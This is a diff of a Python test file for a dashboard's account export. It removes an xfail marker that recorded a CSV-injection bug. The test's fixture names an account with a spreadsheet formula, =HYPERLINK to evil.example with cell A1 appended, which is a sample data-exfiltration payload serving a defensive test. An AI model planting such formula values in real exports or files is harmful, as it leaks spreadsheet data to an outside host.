@@ -476,11 +476,6 @@ def test_hostile_names_are_escaped(logged_in, csm):
     assert "<img src=x" not in html
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="BUG (CSV injection): dashboard/views.py account_export writes cells as they are; a "
-    "name starting with = + - @ runs as a formula when the export is opened in a spreadsheet",
-)
 def test_the_export_defuses_spreadsheet_formulas(logged_in):
     AccountFactory(name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', plan="Growth")
     _, rows = export(logged_in)
